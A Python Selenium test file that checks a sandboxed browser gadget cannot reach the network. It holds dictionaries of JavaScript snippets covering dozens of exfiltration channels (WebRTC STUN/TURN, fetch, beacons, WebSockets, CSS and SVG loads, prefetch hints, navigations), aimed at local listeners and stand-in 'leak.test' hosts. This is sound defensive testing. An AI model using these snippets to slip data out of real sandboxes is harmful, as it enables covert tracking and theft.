"""Every way out of a browser that we know of, tried by a gadget: no packet, no connection, no name that is looked up."""

import os
import re
import shutil
import socket
import tempfile
import threading
import time

from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.support.ui import WebDriverWait

from browser_kit import same
from gadgets_kit import GadgetWindow, PATIENCE, ROOMS

PEER = "var p = new RTCPeerConnection({iceServers: [{urls: 'STUN'}, {urls: 'TURN?transport=tcp', username: 'a', credential: 'b'}]});" \
       " p.createDataChannel('x'); p.createOffer().then(function (o) { p.setLocalDescription(o); })"
LINK = "var l = document.createElement('link'); l.rel = '%s'; l.as = 'script'; l.href = 'WEB/link'; document.head.appendChild(l)"
FRAME = "var f = document.createElement('iframe'); document.body.appendChild(f)"
INNER = "var inner = '<link rel=preconnect href=WEB/><script>parent.postMessage(\"inner\", \"*\"); " \
        + PEER.replace("'", '"') + "</scr' + 'ipt>'; window.heard = window.heard || [];" \
        " addEventListener('message', function (e) { if (e.data === 'inner') heard.push(1); });"
CLICK = "var a = document.createElement('a'); a.href = 'WEB/link'; %s; document.body.appendChild(a); HTMLElement.prototype.click.call(a)"
FORM = "var f = document.createElement('form'); f.action = 'WEB/form'; %s; document.body.appendChild(f); HTMLFormElement.prototype.submit.call(f)"

# By name; WEB, STUN and TURN become an ear of ours, by its number and by a name of its own.
STAYING = {
    "peer": PEER,
    "peer of a frame": f"{FRAME}; var RTCPeerConnection = f.contentWindow.RTCPeerConnection; {PEER}",
    "webtransport": "new WebTransport('WEB/transport'.replace('http:', 'https:'))",
    "srcdoc": f"{INNER} var f = document.createElement('iframe'); f.srcdoc = inner; document.body.appendChild(f)",
    "srcdoc, set later": f"{INNER} {FRAME}; f.setAttribute('srcdoc', inner)",
    "srcdoc, a busy parent": f"{INNER} var f = document.createElement('iframe'); f.srcdoc = inner; var d = document.createElement('div'); d.appendChild(f);"
                             " document.body.appendChild(d); var end = Date.now() + 200; while (Date.now() < end) {}",
    "srcdoc in a shadow": f"{INNER} var f = document.createElement('iframe'); f.srcdoc = inner; var d = document.createElement('div');"
                          " document.body.appendChild(d); d.attachShadow({mode: 'closed'}).appendChild(f)",
    "frame": "var f = document.createElement('iframe'); f.src = 'WEB/frame'; document.body.appendChild(f)",
    "a frame's location": f"{FRAME}; f.contentWindow.location = 'WEB/frame'",
    "window": "window.open('WEB/open')", "window, its own": f"{FRAME}; f.contentWindow.open('WEB/open')",
    "window, Window's": "Window.prototype.open ? Window.prototype.open.call(window, 'WEB/open') : 0", "window above": "window.open('WEB/open', '_top')",
    "location above": "top.location = 'WEB/top'",
    "link, blank": CLICK % "a.target = '_blank'", "link, named": CLICK % "a.target = 'other'; a.download = 'x'",
    "ping": "var a = document.createElement('a'); a.href = '#x'; a.ping = 'WEB/ping'; document.body.appendChild(a); a.click()",
    "form, blank": FORM % "f.target = '_blank'", "form, above": FORM % "f.target = '_top'; f.method = 'post'",
    "fetch": "fetch('WEB/fetch', {mode: 'no-cors'})", "fetch, kept alive": "fetch('WEB/fetch', {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'})",
    "fetch, later": "fetchLater('WEB/later', {activateAfter: 0})", "beacon": "navigator.sendBeacon('WEB/beacon', 'x')",
    "events": "new EventSource('WEB/events')", "socket": "new WebSocket('WEB/socket'.replace('http', 'ws'))",
    "socket stream": "new WebSocketStream('WEB/socket'.replace('http', 'ws'))",
    "request": "var x = new XMLHttpRequest(); x.open('POST', 'WEB/request'); x.send('x')",
    "request, waiting": "var x = new XMLHttpRequest(); x.open('GET', 'WEB/request', false); x.send()",
    "image": "new Image().src = 'WEB/image'", "image, a set": "var i = new Image(); i.srcset = 'WEB/image 2x'; document.body.appendChild(i)",
    "image, attributed": "var i = new Image(); i.attributionSrc = 'WEB/attribution'",
    "media": "document.body.insertAdjacentHTML('beforeend', '<video src=WEB/video poster=WEB/poster autoplay></video><audio src=WEB/audio></audio>"
             "<video><track default src=WEB/track></video><picture><source srcset=WEB/source><img src=WEB/picture></picture><input type=image src=WEB/input>')",
    "plugins": "document.body.insertAdjacentHTML('beforeend', '<object data=WEB/object></object><embed src=WEB/embed><applet archive=WEB/applet></applet>')",
    "frames of old": "document.documentElement.insertAdjacentHTML('beforeend', '<frameset><frame src=WEB/frame></frameset>');"
                     " var f = document.createElement('frame'); f.src = 'WEB/frame'; document.body.appendChild(f)",
    "fenced": "var f = document.createElement('fencedframe'); document.body.appendChild(f); f.config = new FencedFrameConfig('WEB/fenced')",
    "portal": "var f = document.createElement('portal'); f.src = 'WEB/portal'; document.body.appendChild(f)",
    "svg": "document.body.insertAdjacentHTML('beforeend', '<svg><image href=WEB/image></image><use href=WEB/use#x></use><filter id=f><feImage href=WEB/f></feImage>"
           "</filter><rect filter=url(#f) width=9 height=9></rect><rect fill=url(WEB/fill#x) width=9 height=9></rect><script href=WEB/script></script></svg>')",
    "css": "var s = document.createElement('style'); s.textContent = '@import \"WEB/import\"; @font-face { font-family: x; src: url(WEB/font) }"
           " body { font-family: x; background: url(WEB/background); cursor: url(WEB/cursor), auto; mask: url(WEB/mask#x); list-style: url(WEB/list);"
           " border-image: url(WEB/border); filter: url(WEB/filter#x) } body::before { content: url(WEB/content) } body { background-image: image-set(\"WEB/set\" 1x) }';"
           " document.head.appendChild(s)",
    "font": "new FontFace('y', 'url(WEB/font)').load()",
    "import": "import('WEB/module.js')", "script": "var s = document.createElement('script'); s.src = 'WEB/script.js'; document.head.appendChild(s)",
    "module": "var s = document.createElement('script'); s.type = 'module'; s.textContent = 'import \"WEB/module.js\"'; document.head.appendChild(s)",
    "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(\"WEB/worker\")'])))", "worker's scripts": "importScripts('WEB/x.js')",
    "shared worker": "new SharedWorker('data:text/javascript,fetch(\"WEB/shared\")')",
    "service worker": "navigator.serviceWorker.register('/gadget/lib/empty.js')",
    "worklet": "CSS.paintWorklet.addModule('WEB/worklet.js')", "sound worklet": "new AudioContext().audioWorklet.addModule('WEB/worklet.js')",
    **{f"link {rel}": LINK % rel for rel in ("preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "prerender", "next", "manifest",
                                             "stylesheet", "icon", "apple-touch-icon", "compression-dictionary", "expect")},
    "preconnect in markup": "document.body.insertAdjacentHTML('beforeend', '<link rel=preconnect crossorigin href=WEB/>')",
    "preconnect written": "document.body.appendChild(document.createRange().createContextualFragment('<link rel=\"preconnect\" href=WEB/>'))",
    "names of links": "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=x-dns-prefetch-control content=on>');"
                      " document.body.insertAdjacentHTML('beforeend', '<a href=WEB/link>x</a>')",
    **{f"rules to {what}": "var s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({%s: [{source: 'list',"
                           " urls: ['WEB/rules'], eagerness: 'immediate'}]}); document.head.appendChild(s)" % what for what in ("prefetch", "prerender")},
    "report": "var m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = 'img-src *; report-uri WEB/report';"
              " document.head.appendChild(m); new Image().src = 'WEB/reported'; reportError(new Error('WEB/error'))",
    "payment": "new PaymentRequest([{supportedMethods: 'WEB/pay'}], {total: {label: 'x', amount: {currency: 'USD', value: '1'}}}).canMakePayment()",
    "identity": "navigator.credentials.get({identity: {providers: [{configURL: 'WEB/config', clientId: '1'}]}})",
    "presentation": "new PresentationRequest('WEB/show').getAvailability()",
    "entity": "new DOMParser().parseFromString('<!DOCTYPE x SYSTEM \"WEB/dtd\"><x/>', 'text/xml')",
    "editing": "document.designMode = 'on'; document.execCommand('insertImage', false, 'WEB/edited'); document.designMode = 'off'",
}

# What replaces the gadget, or would.
LEAVING = {
    "location": "location.href = 'WEB/leave'", "location, replaced": "location.replace('WEB/leave')", "its window": "window.open('WEB/leave', '_self')",
    "navigation": "navigation.navigate('WEB/leave')",
    "refresh": "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0; url=WEB/leave\">')",
    "link": CLICK % "a.onclick = function (e) { e.stopImmediatePropagation(); }", "link, kept": CLICK % "a.download = 'x'; a.onclick = function (e) { e.stopPropagation(); }",
    "form": FORM % "", "form, posted": FORM % "f.method = 'post'",
    "markup of its own": "location = 'data:text/html,<link rel=preconnect href=WEB/>'",
    "a file of its own": "location = URL.createObjectURL(new Blob(['<link rel=preconnect href=WEB/><script>' + 'location = \"WEB/leave\"</scr' + 'ipt>'], {type: 'text/html'}))",
    "a script for an address": "location = 'javascript:\"<link rel=preconnect href=WEB/>\"'",
    "another page of the server": "location = '/gadgets/leaves.html'",
}


def no_way_out(pair):
    """nothing gets to a host, no line, no packet, no name: not by peers, windows, links, forms, pictures, styles, workers, frames, hints or its own navigation"""
    folder = tempfile.mkdtemp(prefix="gomoku-ways-")
    log = os.path.join(folder, "net.json")
    window = GadgetWindow(pair.url, "Mal", arguments=[f"--log-net-log={log}"])
    try:
        with Ear() as ear:
            room = f"ways-{next(ROOMS)}"
            if pair.server:
                pair.server.put("leaves.html", f"<link rel=preconnect href=http://127.0.0.1:{ear.tcp}/><meta http-equiv=refresh content='0; url=http://127.0.0.1:{ear.tcp}/x'>")
            targets = [ear.addresses, lambda number: {"WEB": f"http://way{number}.leak.test", "STUN": f"stun:way{number}.leak.test",
                                                      "TURN": f"turn:way{number}.leak.test"}]
            tried = 0
            for address in targets:
                window.open("hostile.xml", room)
                for number, code in enumerate(STAYING.values()):
                    attempt(window, code, address(number))
                    tried += 1
                # What a browser puts off until it has nothing else to do; an observer is told in the end.
                window.until("all pictures are settled", "return document.images.length > 1 && [...document.images].every(i => i.complete)")
                same(window.script("return document.querySelectorAll('iframe[srcdoc]').length + (window.heard || []).length"), 0, "no frame of its own ran")
                same(window.script("return typeof RTCPeerConnection + typeof webkitRTCPeerConnection"), "undefinedundefined", "peers")
            for number, code in enumerate(LEAVING.values(), start=len(STAYING)):
                for address in targets:
                    window.open("hostile.xml", room)
                    attempt(window, f"setTimeout(function () {{ {code} }})", address(number))
                    tried += 1
                    time.sleep(0.4)  # A refused navigation has no event that the page could wait for.
            same(ear.heard(), [], "what was heard outside")
            print(f"        {tried} attempts", flush=True)
    finally:
        window.close()
    same(names_in(log), [], "names that the browser's network was asked for")
    shutil.rmtree(folder)


def attempt(window, code, addresses):
    """Runs hostile code; what it throws is a way that is closed."""
    for word, address in addresses.items():
        code = code.replace(word, address)
    window.script(f"try {{ {code} }} catch (error) {{ }}")


def names_in(log):
    """Our names in the browser's log of its network, which is whole when the browser has ended."""
    def whole(_):
        with open(log, encoding="utf-8", errors="replace") as file:
            text = file.read()
        return text if text.rstrip().endswith("}") and "/gadget-frame.html" in text else None

    return sorted(set(re.findall(r"way\d+\.leak\.test", WebDriverWait(None, PATIENCE, 0.1).until(whole, "the log of the network"))))


def links_are_offered(pair):
    """a link is offered with its whole address however it is clicked, in a drawing too; no window opens, and the gadget stays"""
    ann, _ = pair.open("hostile.xml")
    with Ear() as ear:
        web = ear.addresses(0)["WEB"]
        ann.script(f"""document.body.insertAdjacentHTML('afterbegin', '<p><a id=out href={web}/link?' + wave.getWaveId() + '>out</a> <button id=opens>open</button></p>'
            + '<svg width=99 height=30><a href={web}/drawn><text id=drawn y=20>drawn</text></a></svg>'
            + '<svg width=99 height=30><a xlink:href={web}/older><text id=older y=20>older</text></a></svg>');
            document.getElementById('opens').addEventListener('click', function () {{ window.handle = window.open('{web}/open?' + wave.getWaveId()); }});""")
        offered = "const a = document.getElementById('link-open'); return !a.closest('[hidden]') && a.href.includes(arguments[0])" \
                  " && document.getElementById('link-words').textContent.includes(a.href)"
        for selector, keys, path in (("#out", [], "/link?"), ("#opens", [], "/open?"), ("#drawn", [], "/drawn"), ("#older", [], "/older"), ("#out", [Keys.CONTROL], "/link?"), ("#out", [Keys.SHIFT], "/link?")):
            click(ann, selector, keys)
            ann.page_until(f"{path} is offered, whole", offered, path)
            ann.page_click("#link-dismiss")
        ann.script("for (const type of ['click', 'auxclick']) for (const each of [window, document]) each.addEventListener(type, e => e.stopImmediatePropagation(), true);"
                   "Document.prototype.open.call(document); document.write('<a id=out href=" + web + "/aside>out</a>'); document.close();"
                   "for (const type of ['click', 'auxclick']) document.getElementById('out').addEventListener(type, e => e.stopImmediatePropagation(), true)")
        for go in (lambda: middle_click(ann, "#out"), lambda: click(ann, "#out", [Keys.CONTROL]), lambda: click(ann, "#out", [Keys.SHIFT])):
            go()
            ann.page_until("offered, whole", offered, "/aside")
            ann.page_click("#link-dismiss")
        same(len(ann.driver.window_handles), 1, "no window")
        same(ear.heard(), [], "what was heard outside")
        same(ann.script("return typeof wave"), "object", "the gadget is still there")


def click(window, selector, keys):
    chain = ActionChains(window.driver)
    for key in keys:
        chain.key_down(key)
    chain.click(window.driver.find_element(By.CSS_SELECTOR, selector))
    for key in keys:
        chain.key_up(key)
    chain.perform()


def middle_click(window, selector):
    """With the wheel, which opens links in tabs."""
    chain = ActionChains(window.driver).move_to_element(window.driver.find_element(By.CSS_SELECTOR, selector))
    chain.w3c_actions.pointer_action.pointer_down(button=1)
    chain.w3c_actions.pointer_action.pointer_up(button=1)
    chain.perform()


def comes_back(pair):
    """a gadget that has left its frame is said to be gone, and comes back with Reload"""
    ann, _ = pair.open("hostile.xml")
    with Ear() as ear:
        ann.script(f"setTimeout(function () {{ location.href = '{ear.addresses(0)['WEB']}/leave?' + wave.getWaveId(); }})")
        ann.page_until("it is told", "return document.querySelector('#trouble [data-key=gone]') !== null")
        same(ear.heard(), [], "what was heard outside")
    with ann.another():
        ann.page_click("#reload")
    ann.until("loaded again", "return typeof wave !== 'undefined' && wave.getState() !== null")
    same(ann.page("return document.querySelector('#trouble [data-key=gone]')"), None, "and no longer said to be gone")


class Ear:
    """Ports where whatever reaches us is written down: packets, lines, and what is said over them."""

    def __enter__(self):
        self.packets = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.packets.bind(("127.0.0.1", 0))
        self.lines = socket.create_server(("127.0.0.1", 0))
        self.udp, self.tcp = self.packets.getsockname()[1], self.lines.getsockname()[1]
        self.said, self.open = [], []
        threading.Thread(target=self.listen, daemon=True).start()
        threading.Thread(target=self.accept, daemon=True).start()
        return self

    def addresses(self, _):
        return {"WEB": f"http://127.0.0.1:{self.tcp}", "STUN": f"stun:127.0.0.1:{self.udp}", "TURN": f"turn:127.0.0.1:{self.tcp}"}

    def listen(self):
        try:
            while True:
                self.said.append(f"a packet of {len(self.packets.recvfrom(4096)[0])} bytes")
        except OSError:
            pass

    def accept(self):
        try:
            while True:
                line = self.lines.accept()[0]
                self.said.append("a line")
                self.open.append(line)
                threading.Thread(target=self.read, args=(line,), daemon=True).start()
        except OSError:
            pass

    def read(self, line):
        try:
            first = line.recv(200)
            if first:
                self.said.append(first.split(b"\r\n")[0].decode("latin1"))
        except OSError:
            pass

    def heard(self):
        # That something never comes has no event. STUN asks again after half a second at the latest.
        time.sleep(1.5)
        return list(self.said)

    def __exit__(self, *_):
        for each in (self.packets, self.lines, *self.open):
            each.close()


TESTS = (no_way_out, links_are_offered, comes_back)
